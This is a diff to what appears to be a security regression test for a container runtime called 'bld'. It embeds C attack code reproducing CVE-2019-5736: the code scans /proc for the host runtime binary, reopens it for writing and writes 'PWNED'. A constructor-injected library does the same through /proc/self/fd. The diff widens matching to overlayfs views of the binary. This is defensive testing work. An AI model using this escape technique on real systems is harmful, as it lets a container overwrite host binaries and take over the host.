@@ -15,7 +15,9 @@ victim_sum() { sha256sum "$VICTIM" | cut -d' ' -f1; }
 
 # ------------------------------------------------------------- CVE-2019-5736: /proc/PID/exe
 # The attacker, inside the container, opens (O_PATH) the executable of every process it can
-# see that is the host's bld (by device and inode) and tries to reopen it for writing.
+# see that is bld: the host's file (by device and inode), or a view of it (the same inode
+# number and size on another device, as an overlayfs shows it), and tries to reopen it for
+# writing.
 X=$T_DIR/x
 mkdir -p "$X"
 cat >"$T_DIR/attack.c" <<'C'
@@ -30,8 +32,9 @@ cat >"$T_DIR/attack.c" <<'C'
 int main(int argc, char **argv)
 {
 	unsigned long dev = strtoul(argv[1], NULL, 10), ino = strtoul(argv[2], NULL, 10);
-	time_t end = time(NULL) + strtol(argv[3], NULL, 10);
-	int fds[64], n = 0, wrote = 0;
+	long size = strtol(argv[3], NULL, 10);
+	time_t end = time(NULL) + strtol(argv[4], NULL, 10);
+	int fds[64], n = 0, host = 0, wrote = 0;
 	while (time(NULL) < end && !wrote) {
 		DIR *d = opendir("/proc");
 		for (struct dirent *e; d && (e = readdir(d)) && n < 64;) {
@@ -39,10 +42,12 @@ int main(int argc, char **argv)
 			snprintf(p, sizeof(p), "/proc/%s/exe", e->d_name);
 			struct stat st;
 			int fd = open(p, O_PATH | O_CLOEXEC);
-			if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
+			if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino == ino && st.st_size == size) {
+				host += st.st_dev == dev;
 				fds[n++] = fd;
-			else if (fd >= 0)
+			} else if (fd >= 0) {
 				close(fd);
+			}
 		}
 		if (d)
 			closedir(d);
@@ -53,7 +58,7 @@ int main(int argc, char **argv)
 			wrote += w >= 0 && pwrite(w, "PWNED", 5, 0) == 5;
 		}
 	}
-	printf("opened %d wrote %d\n", n, wrote);
+	printf("opened %d wrote %d\n", host, wrote);
 	return 0;
 }
 C
@@ -62,9 +67,9 @@ cc -static -O2 -o "$X/attack" "$T_DIR/attack.c" || t_fail "compile the attacker"
 printf '#!/proc/self/exe\n' >"$X/evil"
 chmod 755 "$X/evil"
 want=$(victim_sum)
-read -r dev ino < <(stat -c '%d %i' "$VICTIM")
+read -r dev ino size < <(stat -c '%d %i %s' "$VICTIM")
 B run -d --name victim -v "$X:/x:ro" $IMG sleep 300 >/dev/null
-B exec -d victim sh -c "/x/attack $dev $ino 6 >/tmp/res 2>&1"
+B exec -d victim sh -c "/x/attack $dev $ino $size 6 >/tmp/res 2>&1"
 for i in $(seq 15); do
   V exec victim /x/evil >/dev/null 2>&1
   V exec -d victim /x/evil >/dev/null 2>&1
@@ -97,7 +102,7 @@ __attribute__((constructor)) static void inject(void)
 		opened = getenv("ESC_ID") && strcmp(getenv("ESC_ID"), want) == 0;
 	}
 	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
-	int w = opened ? open(p, O_WRONLY) : -1;
+	int w = fd >= 0 ? open(p, O_WRONLY) : -1; /* whatever file this bld runs from */
 	wrote = w >= 0 && pwrite(w, "PWNED", 5, 0) == 5;
 	FILE *f = fopen("/res", "w");
 	fprintf(f, "opened %d wrote %d\n", opened, wrote);
